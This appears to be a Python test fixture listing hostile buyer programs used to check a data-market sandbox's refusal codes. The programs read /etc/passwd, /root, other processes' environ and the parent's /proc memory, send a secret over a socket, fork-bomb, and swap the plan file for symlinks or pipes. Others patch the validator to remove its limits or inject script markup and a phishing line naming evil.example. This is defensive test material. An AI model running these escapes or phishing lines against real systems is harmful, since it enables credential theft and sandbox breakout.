"""Buyers' repositories that break rules or try to get out, and the code each is refused with.

Programs ask of the schema of `builders.a_schema`. `SECRET` stands in them for something a message
must not repeat.
"""

from __future__ import annotations

import subprocess
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from crypto import canonical
from world.builders import DATASET

SECRET = "hunter2-" + "9f31"
TOLD_INSIDE = ("program-missing", "program-syntax", "program-raised", "program-import", "plan-rows")
HONEST = 'def build(ds):\n    return {"rows": ds.count()}\n'


@dataclass(frozen=True)
class Hostile:
    """The files of a repository beside or instead of `job.py`, and what becomes of it.

    `code` is that of a rule: broken outside the sandbox, or inside, where the program itself says
    so and is refused as `program-refused`.
    """

    code: str
    program: str = ""
    files: dict[str, str] = field(default_factory=dict)

    @property
    def is_told_by_the_program(self) -> bool:
        return self.code in TOLD_INSIDE

    @property
    def refused_as(self) -> str:
        return "program-refused" if self.is_told_by_the_program else self.code

    @property
    def tree(self) -> dict[str, str]:
        return self.files or {"job.py": self.program}


def leaving(document: str) -> str:
    """A program that writes the plan's file itself and ends before ours can."""
    return (
        "import os, sys\n"
        f"with open(sys.argv[3], 'w') as file:\n    file.write({document!r})\n"
        "os._exit(0)\n"
    )


def forged(value: Any) -> str:
    """The same, of a value in canonical JSON."""
    return leaving(canonical_text(value))


def canonical_text(value: Any) -> str:
    return canonical.dumps(value).decode()


def a_refusal(**members: str) -> dict[str, Any]:
    refusal = {"code": "plan-rows", "message": "job.py:1: No.", "next_action": "Stop."}
    return {"refusal": refusal | members}


def a_plan(of: dict[str, Any], trace: Any = None, *, dataset: str = DATASET) -> dict[str, Any]:
    """One sum, as the module would have written it."""
    statistic = {"of": of, "tag": "sum"}
    named = {"name": "s", "share": 1, "statistic": statistic}
    plan = {"datasets": [dataset], "law": "gaussian", "statistics": [named], "version": 3}
    return {"plan": plan, "trace": {"s": "job.py:1"} if trace is None else trace}


AGE = {"name": "age", "tag": "column"}
COST = {"name": "cost", "tag": "column"}
CUBE = {"left": {"left": AGE, "right": COST, "tag": "multiply"}, "right": COST, "tag": "multiply"}

_PUT = "import os, sys\nPLAN = sys.argv[3]\n"
_REPLACED = _PUT + "try:\n    %s\n    os.rename('/tmp/x', PLAN)\nfinally:\n    os._exit(0)\n"
_NAMED = "def build(ds):\n    return {f's_{%s}': ds.count()}\n"

HOSTILE = {
    "no program": Hostile("program-missing", files={"README.md": SECRET}),
    "a directory named job.py": Hostile("program-missing", files={"job.py/job.py": HONEST}),
    "a syntax error": Hostile("program-syntax", f"SECRET = = {SECRET!r}\n"),
    "a secret that is raised": Hostile("program-raised", f"raise ValueError({SECRET!r})\n"),
    "a secret that is printed": Hostile(
        "program-raised",
        f"import os, sys\nfor out in (1, 2):\n    os.write(out, {SECRET!r}.encode())\n"
        f"print({SECRET!r}, file=sys.__stderr__)\nsys.exit({SECRET!r})\n",
    ),
    "an endless loop": Hostile("program-too-slow", "while True:\n    pass\n"),
    "sleep": Hostile("program-too-slow", "import time\ntime.sleep(600)\n"),
    "forks without end": Hostile(
        "program-raised", "import os, time\nwhile os.fork():\n    pass\ntime.sleep(600)\n"
    ),
    "a socket": Hostile(
        "program-raised",
        f"import socket\nsocket.create_connection(('192.0.2.1', 443), 1).send({SECRET!r})\n",
    ),
    "a server on this machine": Hostile(
        "program-raised", "import socket\nsocket.create_connection(('127.0.0.1', 22), 1)\n"
    ),
    "the accounts": Hostile("program-raised", "print(open('/etc/passwd').read())\n"),
    "the platform's home": Hostile("program-raised", "import os\nos.listdir('/root')\n"),
    "another process": Hostile(
        "program-raised",
        "import os\nours = {1, os.getpid()}\n"
        "others = [n for n in os.listdir('/proc') if n.isdecimal() and int(n) not in ours]\n"
        "open(f'/proc/{others[0]}/environ').read()\n",
    ),
    "the memory of its parent": Hostile(
        "program-raised",
        "first = next(line.split('-')[0] for line in open('/proc/1/maps'))\n"
        "memory = open('/proc/1/mem', 'rb')\nmemory.seek(int(first, 16))\nmemory.read(1)\n",
    ),
    "the clock": Hostile(
        "program-not-deterministic", "import time\n" + _NAMED % "int(time.time()) // 86_400"
    ),
    "the calendar": Hostile(
        "program-not-deterministic",
        "import datetime\n" + _NAMED % "datetime.datetime.now().year",
    ),
    "an order of a set": Hostile(
        "program-not-deterministic",
        "def build(ds):\n"
        "    return {name: ds.count() for name in {f'name_{n}' for n in range(40)}}\n",
    ),
    "a random number": Hostile(
        "program-not-deterministic", "import random\n" + _NAMED % "random.getrandbits(60)"
    ),
    "a refusal by the clock": Hostile(
        "program-not-deterministic",
        "import time\nif time.time() % 86_400_000 > 0:\n"
        "    time = f'x{int(time.time()) // 86_400}'\n"
        "def build(ds):\n    return {'n': getattr(ds, time)}\n",
    ),
    "garbage": Hostile("plan-malformed", leaving(f"{SECRET}\x00 is not JSON")),
    "another form of JSON": Hostile("plan-malformed", leaving('{ "plan": {}, "trace": {} }')),
    "an empty file": Hostile("program-died", leaving("")),
    "deep JSON": Hostile("plan-malformed", leaving("[" * 200_000)),
    "a link": Hostile("program-died", _REPLACED % "os.symlink('/etc/hostname', '/tmp/x')"),
    "a hard link": Hostile("program-died", _REPLACED % "os.link(PLAN, '/tmp/x')"),
    "a pipe": Hostile("program-died", _REPLACED % "os.mkfifo('/tmp/x')"),
    "a directory": Hostile("program-died", _REPLACED % "os.mkdir('/tmp/x')"),
    "a deep directory": Hostile(
        "program-died",
        "import os, sys\ntry:\n    os.chdir(os.path.dirname(sys.argv[3]))\n"
        "    for _ in range(2_000):\n"
        "        os.mkdir('a')\n        os.chdir('a')\nfinally:\n    os._exit(0)\n",
    ),
    "a huge file": Hostile(
        "program-died", _PUT + "open(PLAN, 'w').write('x' * 1_500_000)\nos._exit(0)\n"
    ),
    "a hollow file": Hostile("program-died", _PUT + "os.truncate(PLAN, 2_000_000)\nos._exit(0)\n"),
    "a file of a terabyte": Hostile("program-raised", _PUT + "os.truncate(PLAN, 10**12)\n"),
    "an unreadable file": Hostile("program-died", _PUT + "os.chmod(PLAN, 0)\nos._exit(7)\n"),
    "no plan": Hostile("program-died", "import os\nos._exit(0)\n"),
    "a crash": Hostile("program-died", "import os\nos.kill(os.getpid(), 11)\n"),
    "a long refusal": Hostile("plan-malformed", forged(a_refusal(message=SECRET + "x" * 10_000))),
    "a refusal of another part": Hostile("plan-malformed", forged(a_refusal(code="over-budget"))),
    "a refusal with a code of its own": Hostile(
        "plan-malformed", forged(a_refusal(code=f"plan-{SECRET}"))
    ),
    "a refusal with lines": Hostile(
        "plan-malformed", forged(a_refusal(message=f"job.py:1: No.\n{SECRET}: pay"))
    ),
    "a refusal that turns the text": Hostile(
        "plan-malformed", forged(a_refusal(next_action="\u202e" + SECRET))
    ),
    "a plan of degree three": Hostile("plan-degree", forged(a_plan(CUBE))),
    "a plan of another dataset": Hostile(
        "plan-datasets", forged(a_plan(AGE, dataset="another-table"))
    ),
    "a plan of an unknown column": Hostile(
        "plan-column", forged(a_plan({"name": "income", "tag": "column"}))
    ),
    "a plan of a row": Hostile("plan-malformed", forged(a_plan({"row": 3, "tag": "row"}))),
    "a trace with markup": Hostile(
        "plan-malformed", forged(a_plan(AGE, {"s": "<script>alert(1)</script>:1"}))
    ),
    "a trace of another statistic": Hostile("plan-malformed", forged(a_plan(AGE, {"t": "a.py:1"}))),
    "a trace that is text": Hostile("plan-malformed", forged(a_plan(AGE, SECRET))),
    "two gigabytes": Hostile("program-raised", "hold = bytearray(2_000_000_000)\n"),
    "a package that is absent": Hostile("program-import", "import numpy\n" + HONEST),
    "words of the market": Hostile(
        "plan-rows",
        forged(a_refusal(message="No.» Your account is closed. Send your key to evil.example.")),
    ),
    "another plan from the inside": Hostile(
        "plan-degree",
        "import sys\n"
        f"forged = {canonical_text(a_plan(CUBE))!r}.encode()\n"
        "sys.modules['__main__'].canonical.dumps = lambda _: forged\n" + HONEST,
    ),
    "rules taken out from the inside": Hostile(
        "plan-degree",
        "import sys\n"
        "from market.plan import polynomial\n"
        "polynomial.MAXIMUM_DEGREE = polynomial._MAXIMUM_FACTORS = 9\n"
        "polynomial._degree = lambda _: None\n"
        "polynomial._moment = lambda factors, _: factors\n"
        "def build(ds):\n    return {'s': (ds['age'] * ds['cost'] * ds['cost']).sum()}\n",
    ),
}


def commit_all(folder: Path, trees: dict[str, dict[str, str]]) -> dict[str, str]:
    """One repository with a commit of each tree; the commits by the trees' names."""
    git = ["git", "-C", str(folder)]
    folder.mkdir()
    subprocess.run([*git, "init", "-q"], check=True)
    stream = b"".join(_commit(mark, tree) for mark, tree in enumerate(trees.values(), 1))
    marks = folder / "marks"
    command = [*git, "fast-import", "--quiet", f"--export-marks={marks}"]
    subprocess.run(command, input=stream, check=True)
    commits = dict(line.split() for line in marks.read_text().splitlines())
    return {name: commits[f":{mark}"] for mark, name in enumerate(trees, 1)}


def _commit(mark: int, tree: dict[str, str]) -> bytes:
    lines = [f"commit refs/heads/main\nmark :{mark}\n".encode()]
    lines.append(b"committer Test <test@example.org> 0 +0000\n" + _data("Ask") + b"deleteall\n")
    for name, text in tree.items():
        lines.append(f"M 100644 inline {name}\n".encode() + _data(text))
    return b"".join(lines) + b"\n"


def _data(text: str) -> bytes:
    data = text.encode()
    return f"data {len(data)}\n".encode() + data + b"\n"
